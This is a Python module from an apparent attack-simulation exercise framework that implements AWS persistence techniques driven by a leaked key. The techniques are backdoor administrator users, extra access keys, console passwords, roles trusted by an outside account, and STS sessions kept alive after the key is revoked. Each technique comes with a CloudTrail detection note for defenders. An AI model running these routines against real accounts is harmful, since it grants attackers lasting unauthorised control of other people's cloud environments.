"""Persistence: footholds that outlive the leaked key."""

from __future__ import annotations

from typing import Any

from gameday.exercise.attacker.base import TECHNIQUES, AttackerContext, Resource, Technique
from gameday.scenario.model import (
    BackdoorExistingUser,
    BackdoorRole,
    BackdoorUser,
    LoginProfile,
    RoleSession,
    UserSession,
)
from gameday.world.decoys import Credential


def _mint_key(ctx: AttackerContext, user_name: str) -> None:
    created = ctx.call("iam", "create_access_key", UserName=user_name)
    if created:
        key = created["AccessKey"]
        ctx.add_credential(Credential(key["AccessKeyId"], key["SecretAccessKey"]))
        ctx.created(Resource("access-key", key["AccessKeyId"], parent=user_name))


def _backdoor_user(ctx: AttackerContext, params: BackdoorUser) -> None:
    if ctx.call("iam", "create_user", UserName=params.user_name) is None:
        return
    ctx.created(Resource("user", params.user_name))
    ctx.call("iam", "attach_user_policy", UserName=params.user_name, PolicyArn=params.policy)
    _mint_key(ctx, params.user_name)


def _backdoor_existing_user(ctx: AttackerContext, params: BackdoorExistingUser) -> None:
    _mint_key(ctx, params.user_name)


def _login_profile(ctx: AttackerContext, params: LoginProfile) -> None:
    password = "".join(
        ctx.rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#%+")
        for _ in range(20)
    )
    done = ctx.call(
        "iam",
        "create_login_profile",
        UserName=params.user_name,
        Password=password,
        PasswordResetRequired=False,
    )
    if done:
        ctx.created(Resource("login-profile", params.user_name, parent=params.user_name))


def _backdoor_role(ctx: AttackerContext, params: BackdoorRole) -> None:
    trust = (
        '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":'
        f'"arn:aws:iam::{params.trusted_account}:root"}},"Action":"sts:AssumeRole"}}]}}'
    )
    if (
        ctx.call("iam", "create_role", RoleName=params.role_name, AssumeRolePolicyDocument=trust)
        is None
    ):
        return
    ctx.created(Resource("role", params.role_name))
    ctx.call("iam", "attach_role_policy", RoleName=params.role_name, PolicyArn=params.policy)


ROLE_SESSION = "aws.persistence.sts-role-session"
USER_SESSION = "aws.persistence.sts-get-session-token"


def _role_session(ctx: AttackerContext, params: RoleSession) -> None:
    """Assume the role once; from then on, use the session while it works."""
    role_arn = f"arn:aws:iam::{ctx.account_id}:role/{params.role_name}"
    if ROLE_SESSION not in ctx.sessions:
        ctx.call("iam", "list_roles")
        minted = ctx.call(
            "sts",
            "assume_role",
            RoleArn=role_arn,
            RoleSessionName=params.session_name,
            DurationSeconds=params.duration,
        )
        if minted is None:
            return
        _keep_session(ctx, ROLE_SESSION, minted["Credentials"], role_arn=role_arn)
    _use_session(ctx)


def _user_session(ctx: AttackerContext, params: UserSession) -> None:
    """Trade the key for the user's own session once; from then on, use it while it works."""
    if USER_SESSION not in ctx.sessions:
        # A session cannot mint another: the long-term key asks (ctx.call moves on to it).
        minted = ctx.call("sts", "get_session_token", DurationSeconds=params.duration)
        if minted is None:
            return
        _keep_session(ctx, USER_SESSION, minted["Credentials"])
    _use_session(ctx)


def _keep_session(
    ctx: AttackerContext, technique: str, credentials: dict[str, Any], **facts: str
) -> None:
    session = Credential(
        credentials["AccessKeyId"], credentials["SecretAccessKey"], credentials["SessionToken"]
    )
    ctx.sessions[technique] = session
    ctx.add_credential(session)
    ctx.outcome.loot["session"] = {"access_key_id": session.access_key_id, **facts}


def _use_session(ctx: AttackerContext) -> None:
    # The session at work: who am I now, and what can I read.
    ctx.call("sts", "get_caller_identity")
    ctx.call("s3", "list_buckets")
    ctx.call("secretsmanager", "list_secrets")


TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-backdoor-user",
        tactic="persistence",
        title="Create a backdoor administrator",
        description="Creates a new IAM user with a plausible service name, attaches "
        "AdministratorAccess and mints an access key for it, which the attacker uses from "
        "then on.",
        detection="CreateUser, AttachUserPolicy (AdministratorAccess) and CreateAccessKey in "
        "quick succession from the leaked key; a user nobody asked for.",
        detonate=_backdoor_user,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-backdoor-existing-user",
        tactic="persistence",
        title="Add a second access key to an existing user",
        description="Mints an extra access key on a legitimate user, which blends in better "
        "than a new user.",
        detection="CreateAccessKey for a user by a principal other than that user; a user "
        "with two active keys.",
        detonate=_backdoor_existing_user,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-login-profile",
        tactic="persistence",
        title="Give a user a console password",
        description="Creates a login profile (console password) for a user that had none, "
        "opening the AWS console to the attacker.",
        detection="CreateLoginProfile in CloudTrail; a console sign-in for a programmatic user.",
        detonate=_login_profile,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.iam-create-backdoor-role",
        tactic="persistence",
        title="Create a role trusted by an outside account",
        description="Creates a role whose trust policy lets an account the attacker controls "
        "assume it, and attaches AdministratorAccess.",
        detection="CreateRole with an external account in the trust policy; IAM Access Analyzer "
        "external-access findings.",
        detonate=_backdoor_role,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.sts-role-session",
        tactic="persistence",
        title="Take a role's temporary credentials",
        description="Assumes a role the account trusts itself with and keeps using the "
        "temporary (ASIA…) credentials: they stay valid after the leaked key is disabled or "
        "deleted, until they expire, the role is deleted, or the role denies sessions issued "
        "before a given time (aws:TokenIssueTime, the IAM console's 'Revoke active sessions').",
        detection="AssumeRole by the leaked key in CloudTrail; calls with an ASIA key whose "
        "session issuer is that role after the leaked key stopped working.",
        detonate=_role_session,
    )
)
TECHNIQUES.register(
    Technique(
        id="aws.persistence.sts-get-session-token",
        tactic="persistence",
        title="Trade the key for the user's own temporary credentials",
        description="Calls GetSessionToken with the leaked key — before AWS's quarantine, "
        "which denies it — and keeps using the user's temporary (ASIA…) credentials: they act "
        "as the user and stay valid after the key is disabled or deleted, until they expire "
        "(12 hours by default), the user is deleted, or the user denies sessions issued "
        "before a given time (aws:TokenIssueTime).",
        detection="GetSessionToken by the leaked key in CloudTrail; calls by the user with an "
        "ASIA key after its long-term key stopped working.",
        detonate=_user_session,
    )
)
